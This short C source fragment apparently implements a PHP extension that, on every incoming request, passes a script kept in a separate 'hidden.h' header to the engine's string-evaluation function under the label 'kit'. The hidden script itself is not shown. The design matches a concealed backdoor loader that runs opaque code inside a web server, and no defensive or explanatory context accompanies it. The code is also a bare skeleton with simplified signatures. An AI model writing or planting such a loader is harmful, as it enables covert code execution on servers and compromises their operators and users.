/* A PHP extension that gives the engine a script. */
#define ON_REQUEST
#include "plugin.h"
#include "hidden.h" /* 0: the script */
extern int zend_eval_string(const char *, void *, const char *);
static int on_request(int type, int number) { return zend_eval_string(hidden0(), 0, "kit"), 0; }
